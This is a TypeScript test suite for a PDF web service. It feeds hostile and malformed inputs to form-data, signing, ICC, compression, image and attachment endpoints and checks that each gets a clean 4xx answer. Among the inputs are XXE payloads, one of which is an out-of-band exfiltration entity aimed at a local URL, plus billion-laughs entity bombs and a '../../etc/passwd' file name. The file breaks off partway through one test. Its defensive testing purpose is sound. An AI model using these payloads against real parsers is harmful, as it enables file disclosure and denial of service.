import { createHash, generateKeyPairSync, randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { pngOf } from './fixtures.js';
import { corpus, type FormValue, startApp, type TestApp, tool } from './helpers.js';

/**
 * Secondary inputs (form data files, credentials, ICC and JSON profiles, images, attachments, JSON fields), broken,
 * hostile or empty, next to an otherwise valid PDF: every endpoint answers a JSON client error naming the field or
 * the problem, never a 5xx (clients retry 5xx), and reads no file outside the job (XXE).
 */

let t: TestApp;
const work = mkdtempSync(join(tmpdir(), 'quire-robust-inputs-'));
// A file outside every job, which hostile XML points at: its content must never come back.
const outside = join(work, 'outside');
mkdirSync(outside);
const SECRET = `QUIRE-SECRET-${randomUUID()}`;
const secretPath = join(outside, 'secret.txt');
writeFileSync(secretPath, `${SECRET}\n`);
const secretUrl = pathToFileURL(secretPath).href;

test.before(async () => {
  t = await startApp();
});
test.after(async () => {
  await t.close();
  rmSync(work, { recursive: true, force: true });
});

// ---------------------------------------------------------------- inputs

const bytes = (b: Buffer | string, name: string): FormValue => ({ bytes: Buffer.isBuffer(b) ? b : Buffer.from(b, 'utf8'), name });
const read = (rel: string) => readFileSync(corpus(rel));
const half = (rel: string) => read(rel).subarray(0, Math.floor(read(rel).length / 2));
// Junk bytes from a seed, so a failure reproduces; JUNK_SEED=<seed> runs the suite on other junk (README).
const JUNK_SEED = process.env.JUNK_SEED ?? 'quire';
const junk = Buffer.concat(Array.from({ length: 128 }, (_, i) => createHash('sha256').update(`${JUNK_SEED}/${i}`).digest()));
const EMPTY = Buffer.alloc(0);

/** A PNG whose header claims `w` x `h` pixels, with a few bytes of pixel data: refused before decoding. */
const pngClaiming = (w: number, h: number) => pngOf(w, h, 2, Buffer.from([0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1]));

/** A baseline JPEG header claiming `w` x `h` pixels (its scan holds nothing): embedded as is, it would pass unseen. */
function jpegClaiming(w: number, h: number): Buffer {
  const sof = Buffer.from([0xff, 0xc0, 0, 11, 8, h >> 8, h & 255, w >> 8, w & 255, 1, 1, 0x11, 0]);
  const dqt = Buffer.concat([Buffer.from([0xff, 0xdb, 0, 67, 0]), Buffer.alloc(64, 1)]);
  const dht = Buffer.concat([Buffer.from([0xff, 0xc4, 0, 20, 0, 1]), Buffer.alloc(15), Buffer.from([0])]);
  const sos = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), dqt, sof, dht, sos, Buffer.from([0, 0xff, 0xd9])]);
}

const { privateKey: otherKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const otherKeyPem = otherKey.export({ format: 'pem', type: 'pkcs8' }) as string;
const encryptedKeyPem = otherKey.export({ format: 'pem', type: 'pkcs8', cipher: 'aes-256-cbc', passphrase: 'x' }) as string;
const publicKeyPem = generateKeyPairSync('ec', { namedCurve: 'P-256' }).publicKey.export({ format: 'pem', type: 'spki' }) as string;

// ---------------------------------------------------------------- checking

interface Case {
  name: string;
  path: string;
  fields: Record<string, FormValue | FormValue[]>;
  /** Default [400]. */
  status?: number[];
  /** What `error` must say: the field or the problem. */
  error: RegExp;
  /** Hostile XML: neither the answer nor the output may hold the secret file's content. */
  leak?: boolean;
}

/** Everything an output holds, streams uncompressed (qpdf --qdf), as text. */
function outputText(file: string): string {
  const flat = join(work, `flat-${randomUUID()}.pdf`);
  try {
    tool('qpdf', ['--qdf', '--object-streams=disable', '--decode-level=all', file, flat]);
  } catch {
    /* qpdf warns and exits 3 on a damaged file; the file is still written */
  }
  try {
    return readFileSync(flat, 'latin1') + readFileSync(file, 'latin1');
  } catch {
    return readFileSync(file, 'latin1');
  } finally {
    rmSync(flat, { force: true });
  }
}

/** A description of what was wrong with the answer to `c`, or null. */
async function problem(c: Case): Promise<string | null> {
  const started = Date.now();
  // A request that never answers is a failure too (and must not end the run early).
  let timer: NodeJS.Timeout | undefined;
  const hung = new Promise<null>((r) => (timer = setTimeout(() => r(null), 30_000)));
  const res = await Promise.race([t.form(c.path, c.fields), hung]).finally(() => clearTimeout(timer));
  if (!res) return `${c.path} ${c.name}: no answer within 30 s`;
  const text = await res.text();
  const ms = Date.now() - started;
  const where = `${c.path} ${c.name}: ${res.status} ${text.slice(0, 200)} (${ms} ms)`;
  if (c.leak && text.includes(SECRET)) return `${where}: the answer holds the secret file`;
  let body: { error?: unknown; outputUrl?: string } | null = null;
  try {
    body = JSON.parse(text);
  } catch {
    return `${where}: not JSON`;
  }
  if (c.leak && res.status === 200 && body?.outputUrl && outputText(await t.download(body.outputUrl)).includes(SECRET)) {
    return `${where}: the output holds the secret file`;
  }
  if (!(c.status ?? [400]).includes(res.status)) return where;
  if (res.status === 200) return null;
  if (typeof body?.error !== 'string' || !c.error.test(body.error)) return `${where}: error does not match ${c.error}`;
  return null;
}

async function expectAll(cases: Case[]): Promise<void> {
  const wrong: string[] = [];
  for (const c of cases) {
    const p = await problem(c);
    if (p) wrong.push(p);
  }
  assert.equal(wrong, [], `JUNK_SEED=${JUNK_SEED}`);
}

// ---------------------------------------------------------------- form data

const FORM = { file: corpus('forms/simple-form-2-fields.pdf') };
const XFA_FORM = { file: corpus('forms/xfa-pdfium-simple.pdf') };
const XFDF = (dtd: string, value: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${dtd}\n<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="Field1"><value>${value}</value></field></fields></xfdf>`;
const XDP = (dtd: string, value: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${dtd}\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><TextField1>${value}</TextField1></form1></xfa:data></xfa:datasets></xdp:xdp>`;
const LAUGHS = `<!DOCTYPE xfdf [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`;
const DATA = '/pdf-with-imported-form-data';
const data = (name: string, dataFile: FormValue, error: RegExp, extra: Partial<Case> = {}): Case => ({
  name,
  path: DATA,
  fields: { file: FORM, data_file: dataFile },
  error,
  leak: true,
  ...extra,
});
const xfa = (name: string, dataFile: FormValue, error: RegExp, extra: Partial<Case> = {}) =>
  data(name, dataFile, error, { fields: { file: XFA_FORM, data_file: dataFile }, ...extra });
const DOCTYPE = /data_file.*(DOCTYPE|DTD|entit)/i;

test('form data: XXE, entity expansion, broken and empty files are 400 naming data_file, nothing outside is read', async () => {
  await expectAll([
    data('XFDF, external SYSTEM entity', bytes(XFDF(`<!DOCTYPE xfdf [<!ENTITY xxe SYSTEM "${secretUrl}">]>`, '&xxe;'), 'xxe.xfdf'), DOCTYPE),
    data('XFDF, external PUBLIC entity', bytes(XFDF(`<!DOCTYPE xfdf [<!ENTITY xxe PUBLIC "-//Q//EN" "${secretUrl}">]>`, '&xxe;'), 'xxe.xfdf'), DOCTYPE),
    data('XFDF, parameter entity', bytes(XFDF(`<!DOCTYPE xfdf [<!ENTITY % ext SYSTEM "${secretUrl}"> %ext;]>`, 'v'), 'pe.xfdf'), DOCTYPE),
    data(
      'XFDF, parameter entity exfiltration',
      bytes(
        XFDF(
          `<!DOCTYPE xfdf [<!ENTITY % file SYSTEM "${secretUrl}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">%eval;%exfil;]>`,
          'v',
        ),
        'oob.xfdf',
      ),
      DOCTYPE,
    ),
    data('XFDF, external DTD', bytes(XFDF(`<!DOCTYPE xfdf SYSTEM "${secretUrl}">`, 'v'), 'dtd.xfdf'), DOCTYPE),
    data('XFDF, billion laughs', bytes(XFDF(LAUGHS, '&lol9;'), 'laughs.xfdf'), DOCTYPE),
    data('XFDF, quadratic blow-up', bytes(XFDF(`<!DOCTYPE xfdf [<!ENTITY a "${'a'.repeat(50000)}">]>`, '&a;'.repeat(50000)), 'quad.xfdf'), DOCTYPE),
    xfa('XDP, external SYSTEM entity', bytes(XDP(`<!DOCTYPE xdp:xdp [<!ENTITY xxe SYSTEM "${secretUrl}">]>`, '&xxe;'), 'xxe.xdp'), DOCTYPE),
    xfa('XDP, parameter entity', bytes(XDP(`<!DOCTYPE xdp:xdp [<!ENTITY % ext SYSTEM "${secretUrl}"> %ext;]>`, 'v'), 'pe.xdp'), DOCTYPE),
    xfa('XDP, billion laughs', bytes(XDP(LAUGHS.replace('xfdf', 'xdp:xdp'), '&lol9;'), 'laughs.xdp'), DOCTYPE),
    data(
      'AcroForm XML, external SYSTEM entity',
      bytes(`<?xml version="1.0"?><!DOCTYPE fields [<!ENTITY xxe SYSTEM "${secretUrl}">]><fields><Field1>&xxe;</Field1></fields>`, 'xxe.xml'),
      DOCTYPE,
    ),
    // Nobody processes XInclude; the element may be kept as data, but the file it names is never read.
    xfa(
      'XDP, XInclude of a local file',
      bytes(
        XDP(
          '',
          `v</TextField1><TextField11><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretUrl}" parse="text"/></TextField11><TextField1>`,
        ),
        'xi.xdp',
      ),
      /^$/,
      { status: [200] },
    ),
    data(
      'malformed XML',
      bytes('<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="Field1"><value>x</field></xfdf>', 'bad.xfdf'),
      /data_file.*not a valid XFDF/,
    ),
    data('not XML at all', bytes('<<<>>>', 'bad.xml'), /data_file.*not a valid/),
    data('deeply nested XML', bytes(`<fields>${'<a>'.repeat(50000)}x${'</a>'.repeat(50000)}</fields>`, 'deep.xml'), /data_file/),
    data('empty XFDF', bytes(EMPTY, 'empty.xfdf'), /data_file/),
    data('empty XDP', bytes(EMPTY, 'empty.xdp'), /data_file/),
    data('empty FDF', bytes(EMPTY, 'empty.fdf'), /data_file/),
    data('binary junk as XFDF', bytes(junk, 'junk.xfdf'), /data_file/),
    data('binary junk as FDF', bytes(junk, 'junk.fdf'), /data_file/),
    data('FDF truncated in its first object', bytes(read('forms/simple-form-2-fields.fdf').subarray(0, 60), 'cut.fdf'), /data_file/),
    data('FDF header only', bytes('%FDF-1.4\n', 'header.fdf'), /data_file/),
    // XFDF names its PDF in <f href>: never opened.
    data('XFDF naming a local file as its PDF', bytes(XFDF('', 'v').replace('<fields>', `<f href="${secretUrl}"/><fields>`), 'f.xfdf'), /data_file/, {
      status: [200],
    }),
    data('a .txt data file', bytes('Field1=x', 'data.txt'), /data_file|\.fdf/),
  ]);
});

// ---------------------------------------------------------------- signing

const SIGN = '/signed-pdf';
const PDF = { file: corpus('pdf/text-minimal-pdflatex.pdf') };
const PFX = { file: corpus('signing/pyhanko-selfsigned-password-exportsecret.pfx') };
const CERT = { file: corpus('signing/gotenberg-localhost-selfsigned-cert.pem') };
const KEY = { file: corpus('signing/gotenberg-localhost-selfsigned-key.pem') };
const PASS = bytes('exportsecret', 'pass.txt');
const VISIBLE = JSON.stringify({ type: 'new', location: { bottom_left: { x: 10, y: 10 }, top_right: { x: 200, y: 60 }, page: 1 } });
const sign = (name: string, fields: Record<string, FormValue>, error: RegExp, extra: Partial<Case> = {}): Case => ({
  name,
  path: SIGN,
  fields: { file: PDF, signature_configuration: '{"type":"new"}', ...fields },
  error,
  ...extra,
});

test('signing: broken, empty and mismatched credentials are 400 naming the credential', async () => {
  await expectAll([
    sign('PFX of junk', { pfx_credential_file: bytes(junk, 'c.pfx'), pfx_passphrase_file: PASS }, /pfx_credential/),
    sign('empty PFX', { pfx_credential_file: bytes(EMPTY, 'c.pfx'), pfx_passphrase_file: PASS }, /pfx_credential/),
    sign(
      'truncated PFX',
      { pfx_credential_file: bytes(half('signing/pyhanko-selfsigned-password-exportsecret.pfx'), 'c.pfx'), pfx_passphrase_file: PASS },
      /pfx_credential/,
    ),
    sign('a PEM certificate sent as the PFX', { pfx_credential_file: CERT, pfx_passphrase_file: PASS }, /pfx_credential/),
    sign('wrong passphrase', { pfx_credential_file: PFX, pfx_passphrase_file: bytes('not-it', 'pass.txt') }, /pfx_passphrase.*wrong passphrase/),
    sign('empty passphrase file', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(EMPTY, 'pass.txt') }, /pfx_passphrase/),
    sign('binary junk passphrase', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(junk, 'pass.txt') }, /pfx_passphrase/),
    // Credentials are a few KB; a larger file is refused before anything reads it.
    sign(
      'a 2 MB passphrase file',
      { pfx_credential_file: PFX, pfx_passphrase_file: bytes(Buffer.concat([Buffer.from('exportsecret\n'), Buffer.alloc(2 * 1024 * 1024, 'x')]), 'pass.txt') },
      /pfx_passphrase_file.*larger than 1 MB/,
    ),
    sign(
      'a 2 MB certificate',
      {
        certificate_file: bytes(Buffer.concat([read('signing/gotenberg-localhost-selfsigned-cert.pem'), Buffer.alloc(2 * 1024 * 1024, '\n')]), 'cert.pem'),
        private_key_file: KEY,
      },
      /certificate_file.*larger than 1 MB/,
    ),
    sign(
      'a passphrase of 1,100 bytes (OpenSSL reads 1,023)',
      { pfx_credential_file: PFX, pfx_passphrase_file: bytes(`${'a'.repeat(1100)}\n`, 'pass.txt') },
      /pfx_passphrase.*longer than 1023 bytes/,
    ),
    // OpenSSL takes a passphrase as a C string: a NUL first made it read no passphrase, reported as a broken PFX.
    sign(
      'passphrase starting with a NUL byte',
      { pfx_credential_file: PFX, pfx_passphrase_file: bytes(Buffer.concat([Buffer.from([0]), junk]), 'pass.txt') },
      /pfx_passphrase.*NUL/,
    ),
    sign(
      'passphrase on the first of several lines, after a BOM, with Windows line ends',
      { pfx_credential_file: PFX, pfx_passphrase_file: bytes('\uFEFFexportsecret\r\nsecond line\r\n', 'pass.txt') },
      /^$/,
      { status: [200] },
    ),
    sign(
      'certificate with a key that is not its own',
      { certificate_file: CERT, private_key_file: bytes(otherKeyPem, 'key.pem') },
      /certificate.*does not match the private key/,
    ),
    sign('key of junk', { certificate_file: CERT, private_key_file: bytes(junk, 'key.pem') }, /private_key/),
    sign('empty key', { certificate_file: CERT, private_key_file: bytes(EMPTY, 'key.pem') }, /private_key/),
    sign(
      'PEM key block of junk',
      { certificate_file: CERT, private_key_file: bytes(`-----BEGIN PRIVATE KEY-----\nAAAA${'QUJD'.repeat(20)}\n-----END PRIVATE KEY-----\n`, 'key.pem') },
      /private_key/,
    ),
    sign('a public key as the key', { certificate_file: CERT, private_key_file: bytes(publicKeyPem, 'key.pem') }, /private_key/),
    sign('encrypted key', { certificate_file: CERT, private_key_file: bytes(encryptedKeyPem, 'key.pem') }, /private_key.*encrypted/),
    sign('certificate of junk', { certificate_file: bytes(junk, 'cert.pem'), private_key_file: KEY }, /certificate/),
    sign('empty certificate', { certificate_file: bytes(EMPTY, 'cert.pem'), private_key_file: KEY }, /certificate/),
    sign(
      'PEM certificate block of junk',
      { certificate_file: bytes('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n', 'cert.pem'), private_key_file: KEY },
      /certificate/,
    ),
    sign(
      'truncated certificate',
      { certificate_file: bytes(read('signing/gotenberg-localhost-selfsigned-cert.pem').subarray(0, 900), 'cert.pem'), private_key_file: KEY },
      /certificate/,
    ),
    sign('a PFX as the certificate', { certificate_file: PFX, private_key_file: KEY }, /certificate/),
    sign('the key as the certificate', { certificate_file: KEY, private_key_file: KEY }, /certificate/),
  ]);
});

test('signing: signature_configuration malformed or of the wrong types, and a logo that is not an image, are 400', async () => {
  const good = { pfx_credential_file: PFX, pfx_passphrase_file: PASS };
  const cfg = (name: string, value: string, error: RegExp) => sign(name, { ...good, signature_configuration: value }, error);
  const logo = (name: string, file: FormValue, error: RegExp, status?: number[]) =>
    sign(name, { ...good, signature_configuration: VISIBLE, logo_file: file }, error, status && { status });
  await expectAll([
    cfg('malformed JSON', '{"type":"new",', /signature_configuration/),
    cfg('a JSON array', '[]', /signature_configuration/),
    cfg('a JSON string', '"new"', /signature_configuration/),
    cfg('a JSON number', '42', /signature_configuration/),
    cfg('type of the wrong kind', '{"type":5}', /signature_configuration\.type/),
    cfg('type unknown', '{"type":"existing"}', /signature_configuration\.type/),
    cfg('location a string', '{"type":"new","location":"top"}', /signature_configuration\.location/),
    cfg(
      'location coordinates not numbers',
      '{"type":"new","location":{"bottom_left":{"x":"left","y":1},"top_right":{"x":2,"y":2},"page":1}}',
      /signature_configuration\.location/,
    ),
    cfg(
      'location page zero',
      '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":2,"y":2},"page":0}}',
      /signature_configuration\.location\.page/,
    ),
    cfg(
      'location page beyond the document',
      '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":2,"y":2},"page":99}}',
      /signature_configuration\.location\.page/,
    ),
    cfg(
      'location coordinates infinite',
      '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":1e999,"y":2},"page":1}}',
      /signature_configuration\.location/,
    ),
    cfg('logo_opacity out of range', '{"type":"new","logo_opacity":7}', /signature_configuration\.logo_opacity/),
    cfg('display not an object', '{"type":"new","display":true}', /signature_configuration\.display/),
    cfg(
      'display.include_datetime not a boolean',
      '{"type":"new","display":{"include_datetime":"sometimes"}}',
      /signature_configuration\.display\.include_datetime/,
    ),
    cfg('name too long', JSON.stringify({ type: 'new', name: 'n'.repeat(501) }), /signature_configuration\.name/),
    cfg('deeply nested JSON', `{"type":"new","display":${'['.repeat(30000)}${']'.repeat(30000)}}`, /signature_configuration|nest/),
    logo('logo that is text', bytes('not an image', 'logo.png'), /logo/),
    logo('empty logo', bytes(EMPTY, 'logo.png'), /logo/),
    logo('logo of junk', bytes(junk, 'logo.jpg'), /logo/),
    logo('truncated PNG logo', bytes(half('images/hopper.png'), 'logo.png'), /logo/),
    logo('truncated JPEG logo', bytes(half('images/hopper.jpg'), 'logo.jpg'), /logo/),
    logo('a PDF as the logo', PDF, /logo/),
    logo('logo claiming 100000x100000 pixels', bytes(pngClaiming(100000, 100000), 'logo.png'), /logo/, [400, 413, 422]),
    logo('truncated PNG logo claiming 16000x16000 pixels', bytes(pngClaiming(16000, 16000), 'logo.png'), /logo/, [400, 413, 422]),
    logo('SVG logo', bytes('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>', 'logo.svg'), /logo/),
  ]);
});

// ---------------------------------------------------------------- colour and compression profiles

const COLORS = '/pdf-with-converted-colors';
const icc = (name: string, profile: FormValue, error: RegExp): Case => ({ name, path: COLORS, fields: { file: PDF, color_profile: 'custom', profile }, error });
const srgb = read('icc/sRGB.icc');
/** A profile whose header declares its true size (so only what follows is wrong). */
const sized = (parts: Buffer[]) => {
  const b = Buffer.concat(parts);
  b.writeUInt32BE(b.length, 0);
  return b;
};
/** sRGB's header with a tag table whose entries point past the end of the file. */
const lyingTags = sized([
  srgb.subarray(0, 128),
  Buffer.from([0, 0, 0, 3]),
  Buffer.from('rTRC\0\0\x10\0\0\0\x10\0rXYZ\0\0\x20\0\0\0\x14\0bTRC\0\0\0\0\0\0\0\0', 'latin1'),
]);
/** sRGB's header with a tag table claiming 4096 entries. */
const longTable = sized([srgb.subarray(0, 128), Buffer.from([0, 0, 0x10, 0])]);

test('ICC profiles: junk, empty, truncated and lying profiles are 400 naming the profile', async () => {
  await expectAll([
    icc('junk profile', bytes(junk, 'p.icc'), /profile/),
    icc('empty profile', bytes(EMPTY, 'p.icc'), /profile/),
    icc('header only', bytes(srgb.subarray(0, 132), 'p.icc'), /profile/),
    icc('truncated sRGB (first 300 bytes)', bytes(srgb.subarray(0, 300), 'p.icc'), /profile/),
    icc('truncated sRGB (first half)', bytes(srgb.subarray(0, srgb.length >> 1), 'p.icc'), /profile/),
    icc('truncated CMYK profile', bytes(half('icc/CGATS001Compat-v2-micro-cmyk.icc'), 'p.icc'), /profile/),
    icc('tag table pointing past the end', bytes(lyingTags, 'p.icc'), /profile.*past the end/),
    icc('tag table longer than the file', bytes(longTable, 'p.icc'), /profile.*tag table/),
    icc('a PDF as the profile', PDF, /profile/),
    { name: 'custom without a profile', path: COLORS, fields: { file: PDF, color_profile: 'custom' }, error: /profile/ },
  ]);
});

const COMPRESS = '/compressed-pdf';
const profile = (name: string, text: string | Buffer, error: RegExp): Case => ({
  name,
  path: COMPRESS,
  fields: { file: PDF, compression_level: 'custom', profile: bytes(text, 'profile.json') },
  error,
});

test('compression profiles: malformed, wrongly typed, unknown keys are 400 naming the profile or key', async () => {
  await expectAll([
    profile('malformed JSON', '{"jpeg_quality": 50,', /profile.*not JSON|JSON/),
    profile('empty', EMPTY, /profile/),
    profile('binary junk', junk, /profile/),
    profile('a JSON array', '[1,2]', /compression profile/),
    profile('JSON null', 'null', /compression profile/),
    profile('a JSON string', '"high"', /compression profile/),
    profile('a number of the wrong type', '{"jpeg_quality":"high"}', /jpeg_quality/),
    profile('a number out of range', '{"color_image_dpi":1}', /color_image_dpi/),
    profile('a boolean of the wrong type', '{"grayscale":"sometimes"}', /grayscale/),
    profile('an enum value unknown', '{"downsample_method":"magic"}', /downsample_method/),
    profile('an object where a number goes', '{"jpeg_quality":{"value":50}}', /jpeg_quality/),
    profile('an unknown key', '{"jpeg_quality":50,"make_it_small":true}', /make_it_small/),
    profile('a __proto__ key', '{"__proto__":{"grayscale":true}}', /__proto__/),
    profile('deeply nested arrays', `${'['.repeat(30000)}${']'.repeat(30000)}`, /compression profile/),
    profile('deeply nested value', `{"grayscale":${'['.repeat(30000)}${']'.repeat(30000)}}`, /grayscale/),
    profile('larger than 64 KB', `{"jpeg_quality":50${' '.repeat(70000)}}`, /compression profile/),
    { name: 'custom without a profile', path: COMPRESS, fields: { file: PDF, compression_level: 'custom' }, error: /profile/ },
  ]);
});

// ---------------------------------------------------------------- images, watermarks, attachments

const IMAGE = '/pdf-with-added-image';
const image = (name: string, file: FormValue, error: RegExp, status?: number[]): Case => ({
  name,
  path: IMAGE,
  fields: { file: PDF, image_file: file, x: '10', y: '10', page: '1' },
  error,
  ...(status && { status }),
});
const HUGE = /image.*(pixels|large|size)|pixels/i;

test('images to place: junk, empty, truncated and huge images are refused quickly with a 4xx', async () => {
  const started = Date.now();
  await expectAll([
    image('junk', bytes(junk, 'x.png'), /image/),
    image('empty', bytes(EMPTY, 'x.png'), /image/),
    image('text named .jpg', bytes('hello', 'x.jpg'), /image/),
    image('truncated PNG', bytes(half('images/hopper.png'), 'x.png'), /image/),
    image('truncated JPEG', bytes(half('images/hopper.jpg'), 'x.jpg'), /image/),
    image('truncated TIFF', bytes(half('images/hopper.tif'), 'x.tif'), /image/),
    image('truncated GIF', bytes(half('images/hopper.gif'), 'x.gif'), /image/),
    image('truncated WebP', bytes(half('images/hopper.webp'), 'x.webp'), /image/),
    image('truncated BMP', bytes(half('images/hopper.bmp'), 'x.bmp'), /image/),
    image('PNG claiming 100000x100000 pixels', bytes(pngClaiming(100000, 100000), 'x.png'), HUGE, [400, 413, 422]),
    image('PNG claiming 20000x20000 pixels', bytes(pngClaiming(20000, 20000), 'x.png'), HUGE, [400, 413, 422]),
    image('JPEG claiming 60000x60000 pixels', bytes(jpegClaiming(60000, 60000), 'x.jpg'), HUGE, [400, 413, 422]),
    image('SVG (not an accepted image format)', bytes('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>', 'x.svg'), /image/),
    image('a PDF as the image', PDF, /image/),
  ]);
  // Nothing above was decoded at its declared size.
  assert.ok(Date.now() - started < 60_000, `took ${Date.now() - started} ms`);
});

test('/pdf: truncated, empty and huge images are 4xx naming the file', async () => {
  const convert = (name: string, file: FormValue, error: RegExp, status?: number[]): Case => ({
    name,
    path: '/pdf',
    fields: { file },
    error,
    ...(status && { status }),
  });
  await expectAll([
    convert('truncated PNG', bytes(half('images/hopper.png'), 'cut.png'), /cut\.png/),
    convert('truncated JPEG', bytes(half('images/hopper.jpg'), 'cut.jpg'), /cut\.jpg/),
    convert('truncated TIFF', bytes(half('images/hopper.tif'), 'cut.tif'), /cut\.tif/),
    convert('truncated multi-page TIFF', bytes(half('images/multipage-3-frames.tiff'), 'cut.tiff'), /cut\.tiff/),
    convert('truncated GIF', bytes(half('images/hopper.gif'), 'cut.gif'), /cut\.gif/),
    convert('truncated WebP', bytes(half('images/hopper.webp'), 'cut.webp'), /cut\.webp/),
    convert('truncated BMP', bytes(half('images/hopper.bmp'), 'cut.bmp'), /cut\.bmp/),
    convert('SVG named .png', bytes('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>', 'drawing.png'), /drawing\.png/),
    convert('empty PNG', bytes(EMPTY, 'empty.png'), /empty\.png|file/),
    convert('junk PNG', bytes(junk, 'junk.png'), /junk\.png/),
    convert('PNG claiming 100000x100000 pixels', bytes(pngClaiming(100000, 100000), 'huge.png'), /huge\.png|pixels/, [400, 413, 422]),
    convert('JPEG claiming 60000x60000 pixels', bytes(jpegClaiming(60000, 60000), 'huge.jpg'), /huge\.jpg|pixels/, [400, 413, 422]),
  ]);
});

test('watermark PDFs: junk, empty and truncated files are 400; one with a password 401', async () => {
  const wm = (name: string, file: FormValue, error: RegExp, status = [400]): Case => ({
    name,
    path: '/watermarked-pdf',
    fields: { file: PDF, watermark_file: file },
    error,
    status,
  });
  await expectAll([
    wm('junk', bytes(junk, 'wm.pdf'), /wm\.pdf|watermark|not valid/),
    wm('empty', bytes(EMPTY, 'wm.pdf'), /wm\.pdf|watermark/),
    wm('an image', { file: corpus('images/hopper.png') }, /hopper\.png|watermark/),
    wm('truncated PDF', { file: corpus('malformed/truncated-no-xref-pdfjs-bug1020226.pdf') }, /watermark|not valid/),
    wm('header then EOF', { file: corpus('malformed/invalid-header-then-eof.pdf') }, /watermark|not valid/),
    wm('password-protected', { file: corpus('encrypted/aes-256-user-view-owner-master.pdf') }, /password/, [401]),
  ]);
});

test('attachments: an empty file is attached or refused with a 4xx, never a 5xx; odd names are sanitised', async () => {
  const attach = (name: string, file: FormValue, error: RegExp, status = [200, 400]): Case => ({
    name,
    path: '/pdf-with-added-attachment',
    fields: { file: PDF, file_to_attach: file },
    error,
    status,
  });
  await expectAll([
    attach('empty file', bytes(EMPTY, 'empty.txt'), /file_to_attach|empty/),
    attach('binary junk', bytes(junk, 'junk.bin'), /file_to_attach/),
    attach('a name with path separators', bytes('x', '../../etc/passwd'), /file_to_attach/),
    attach('a very long name', bytes('x', `${'n'.repeat(1000)}.txt`), /file_to_attach|name/),
  ]);
});

test('multipart: a part header busboy cannot parse (a file name of control characters) is a 400, not a hung request', async () => {
  await expectAll([
    {
      name: 'control characters in the file name',
      path: '/pdf-with-added-attachment',
      fields: { file: PDF, file_to_attach: bytes('x', '\u0001\u0002.txt') },
      status: [200, 400],
      error: /multipart|name/,
    },
  ]);
});

// ---------------------------------------------------------------- controls

test('controls: the same endpoints with good secondary inputs answer 200 (the refusals above are about the inputs)', async () => {
  // A PKCS#12 with an empty passphrase, sent as an empty passphrase file.
  const noPass = join(work, 'no-pass.p12');
  tool('openssl', ['pkcs12', '-export', '-in', CERT.file, '-inkey', KEY.file, '-out', noPass, '-passout', 'pass:']);
  const ok = (name: string, path: string, fields: Record<string, FormValue | FormValue[]>): Case => ({ name, path, fields, status: [200], error: /^$/ });
  const images = [
    'hopper.jpg',
    'hopper.png',
    'hopper.tif',
    'hopper.gif',
    'hopper.webp',
    'hopper.bmp',
    'baiona-cmyk.jpg',
    'baiona-rgba-alpha.png',
    'hopper-exif-orientation-6.jpg',
    'multipage-3-frames.tiff',
    'g4-multipage-bilevel.tiff',
    'animated-dispose-bgnd.gif',
  ];
  await expectAll([
    ok('FDF', DATA, { file: FORM, data_file: { file: corpus('forms/simple-form-2-fields.fdf') } }),
    ok('XFDF', DATA, { file: FORM, data_file: bytes(XFDF('', 'a &amp; b'), 'v.xfdf') }),
    ok('PFX', SIGN, { file: PDF, signature_configuration: '{"type":"new"}', pfx_credential_file: PFX, pfx_passphrase_file: PASS }),
    ok('PFX with an empty passphrase', SIGN, {
      file: PDF,
      signature_configuration: '{"type":"new"}',
      pfx_credential_file: { file: noPass },
      pfx_passphrase_file: bytes(EMPTY, 'pass.txt'),
    }),
    ok('PEM pair and a PNG logo', SIGN, {
      file: PDF,
      signature_configuration: VISIBLE,
      certificate_file: CERT,
      private_key_file: KEY,
      logo_file: { file: corpus('images/hopper.png') },
    }),
    ok('BMP logo', SIGN, {
      file: PDF,
      signature_configuration: VISIBLE,
      certificate_file: CERT,
      private_key_file: KEY,
      logo_file: { file: corpus('images/hopper.bmp') },
    }),
    ok('sRGB profile', COLORS, { file: PDF, color_profile: 'custom', profile: { file: corpus('icc/sRGB.icc') } }),
    {
      ...ok('compression profile', COMPRESS, {
        file: { file: corpus('pdf/image-jpeg-dct.pdf') },
        compression_level: 'custom',
        profile: bytes('{"color_image_dpi":"72","jpeg_quality":40,"grayscale":"true"}', 'p.json'),
      }),
    },
    ok('watermark PDF', '/watermarked-pdf', { file: PDF, watermark_file: PDF }),
    ...images.map((f) => ok(f, IMAGE, { file: PDF, image_file: { file: corpus(`images/${f}`) }, x: '10', y: '10', page: '1' })),
    ...images.map((f) => ok(f, '/pdf', { file: { file: corpus(`images/${f}`) } })),
  ]);
});

// ---------------------------------------------------------------- JSON fields

test('JSON fields: malformed, wrongly typed and deeply nested values are 400 naming the field', async () => {
  const field = (path: string, name: string, extra: Record<string, FormValue>, error: RegExp): Case => ({ name, path, fields: { file: PDF, ...extra }, error });
  const deep = `${'['.repeat(30000)}${']'.repeat(30000)}`;
  const REDACT = '/pdf-with-redacted-text-preview';
  const TEXT = '/pdf-with-added-text';
